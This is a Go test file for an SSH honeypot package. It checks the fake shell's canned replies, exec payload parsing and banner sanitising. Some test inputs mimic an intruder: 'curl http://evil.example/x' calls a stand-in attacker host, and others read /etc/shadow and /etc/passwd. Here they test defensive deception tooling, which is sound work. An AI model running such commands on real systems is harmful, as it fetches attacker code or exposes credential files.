package sshpot

import "testing"

func TestShellResponseKnownCommands(t *testing.T) {
    cases := map[string]string{
        "whoami":   "root\r\n",
        "pwd":      "/root\r\n",
        "hostname": "honeypot\r\n",
        "uname":    "Linux\r\n",
        "cd /tmp":  "",
        "echo hi":  "hi\r\n",
    }
    for cmd, want := range cases {
        got := shellResponse(cmd)
        if got != want {
            t.Errorf("shellResponse(%q) = %q, want %q", cmd, got, want)
        }
    }
}

func TestShellResponseUnameDashA(t *testing.T) {
    got := shellResponse("uname -a")
    want := "Linux honeypot 5.4.0-91-generic #102-Ubuntu SMP x86_64 GNU/Linux\r\n"
    if got != want {
        t.Fatalf("shellResponse(%q) = %q, want %q", "uname -a", got, want)
    }
}

func TestShellResponseCatPasswdAndShadow(t *testing.T) {
    if got := shellResponse("cat /etc/shadow"); got != "cat: /etc/shadow: Permission denied\r\n" {
        t.Errorf("cat /etc/shadow = %q", got)
    }
    if got := shellResponse("cat /etc/passwd"); got != passwdFile {
        t.Errorf("cat /etc/passwd = %q, want passwd file contents", got)
    }
    if got := shellResponse("cat missing.txt"); got != "cat: missing.txt: No such file or directory\r\n" {
        t.Errorf("cat missing.txt = %q", got)
    }
}

func TestShellResponseUnknownCommand(t *testing.T) {
    got := shellResponse("curl http://evil.example/x")
    want := "bash: curl: command not found\r\n"
    if got != want {
        t.Fatalf("shellResponse() = %q, want %q", got, want)
    }
}

func TestShellResponseEmptyLine(t *testing.T) {
    if got := shellResponse("   "); got != "" {
        t.Fatalf("shellResponse(blank) = %q, want empty", got)
    }
}

func TestIsExitCommand(t *testing.T) {
    for _, cmd := range []string{"exit", "quit", "logout"} {
        if !isExitCommand(cmd) {
            t.Errorf("isExitCommand(%q) = false, want true", cmd)
        }
    }
    if isExitCommand("ls") {
        t.Error("isExitCommand(\"ls\") = true, want false")
    }
}

func TestParseExecPayload(t *testing.T) {
    cmd := "whoami"
    payload := make([]byte, 4+len(cmd))
    payload[3] = byte(len(cmd))
    copy(payload[4:], cmd)

    got := parseExecPayload(payload)
    if got != cmd {
        t.Fatalf("parseExecPayload() = %q, want %q", got, cmd)
    }
}

func TestParseExecPayloadTruncated(t *testing.T) {
    if got := parseExecPayload([]byte{0, 0}); got != "" {
        t.Fatalf("parseExecPayload(short) = %q, want empty", got)
    }
}

func TestSanitizeBanner(t *testing.T) {
    if got := sanitizeBanner("not an ssh banner"); got != "SSH-2.0-OpenSSH_8.2p1" {
        t.Errorf("sanitizeBanner(invalid) = %q", got)
    }
    if got := sanitizeBanner("SSH-2.0-OpenSSH 8.2p1 Ubuntu"); got != "SSH-2.0-OpenSSH_8.2p1_Ubuntu" {
        t.Errorf("sanitizeBanner(spaces) = %q", got)
    }
}
